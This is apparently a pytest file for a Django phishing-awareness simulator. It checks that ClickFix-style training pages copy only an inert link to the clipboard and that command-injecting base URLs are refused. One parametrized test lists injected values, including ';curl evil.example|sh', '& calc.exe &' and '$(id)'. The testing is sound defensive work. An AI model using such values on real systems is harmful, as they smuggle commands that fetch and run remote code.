"""No code is ever run by a simulation: what every ClickFix/FileFix page copies, in every
language, is the inert link to our own server, and no base URL can make it anything else."""

import html
import re
from io import StringIO

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.test import Client

from clinicshield.simulations.core.landing import clipboard_payload, verification_id
from clinicshield.simulations.models import Campaign

from .conftest import BASE_URL, make_campaign

CLIPBOARD_TEMPLATES = ("booking-captcha", "e-prescription-update", "video-consultation-error")
# What the line may hold after the link: the decoy words, digits, a Windows path. Nothing a
# shell, cmd.exe or PowerShell reads as more than one word of a command that does not exist.
INERT_DECOY = re.compile(r"[\w .\-\\:]+")


@pytest.mark.parametrize("template", CLIPBOARD_TEMPLATES)
def test_every_clickfix_page_copies_only_the_inert_link_in_each_language(
    org_a, staff, smtp_server, template
):
    campaign = make_campaign(org_a, smtp_server, template=template)
    for recipient in campaign.recipients.all():  # Ana and Carla read Spanish, Ben English
        page = Client().get(f"/t/{recipient.token}").content.decode()
        copied = [html.unescape(v) for v in re.findall(r'data-clipboard="([^"]*)"', page)]
        expected = clipboard_payload(
            campaign.base_url, recipient.token, campaign.landing, recipient.language
        )
        assert copied == [expected.text]
        link, decoy = expected.text.split("#  ", 1)
        assert link == f"{BASE_URL}/s/{recipient.token}"
        assert verification_id(recipient.token) in decoy
        assert INERT_DECOY.fullmatch(decoy), decoy
        if recipient.language == "es":
            assert "robot - ID de verificación" in decoy or "\\Renovacion\\" in decoy
        # One script, our own; nothing offered for download.
        assert re.findall(r"<script[^>]*>", page) == [
            '<script src="/static/simulations/landing.js">'
        ]
        assert "download" not in page.lower() and "<iframe" not in page.lower()


@pytest.mark.parametrize(
    "base_url",
    [
        "https://drills.example & calc.exe &",
        "https://drills.example/;curl evil.example|sh",
        "https://drills.example/$(id)",
        "https://drills.example\nwhoami",
        "https://drills.example`whoami`",
    ],
)
def test_a_base_url_that_would_put_a_command_on_the_clipboard_is_refused(org_a, staff, base_url):
    # The wizard's URL field refuses these; the CLI must too (exit code 2, a clear reason).
    with pytest.raises(CommandError, match="base URL"):
        call_command(
            "campaign",
            "create",
            "--org",
            "clinic-a",
            "--name",
            "x",
            "--template",
            "booking-captcha",
            "--smtp-host",
            "127.0.0.1",
            "--from",
            "it@clinic-a.example",
            "--base-url",
            base_url,
            stdout=StringIO(),
        )
    assert not Campaign.objects.exists()
    with pytest.raises(ValueError, match="base URL"):
        clipboard_payload(base_url, "A" * 32, "clickfix", "en")


def test_a_campaign_saved_with_an_unsafe_base_url_shows_the_lesson_not_an_error(
    org_a, staff, smtp_server, caplog
):
    # Saved before base URLs were checked: its page must copy nothing, and must not fail.
    campaign = make_campaign(org_a, smtp_server, template="booking-captcha")
    Campaign.objects.filter(pk=campaign.pk).update(base_url="https://drills.example & calc.exe &")
    recipient = campaign.recipients.get(language="en")
    with caplog.at_level("WARNING", logger="clinicshield.simulations.views.public"):
        response = Client().get(f"/t/{recipient.token}")
    assert response.status_code == 200
    page = response.content.decode()
    assert "data-clipboard" not in page and "calc.exe" not in page
    assert [t.name for t in response.templates][0] == "simulations/public/lesson.html"
    assert f"campaign {campaign.pk}: base URL" in caplog.text


def test_the_campaign_page_warns_of_an_unsafe_base_url(org_a, staff, smtp_server, client_alice):
    campaign = make_campaign(org_a, smtp_server, template="booking-captcha")
    url = f"/o/clinic-a/simulations/campaigns/{campaign.pk}/"
    warning = "is not a plain http:// or https:// address"
    assert warning not in client_alice.get(url).content.decode()
    Campaign.objects.filter(pk=campaign.pk).update(base_url="https://drills.example/$(id)")
    assert warning in client_alice.get(url).content.decode()
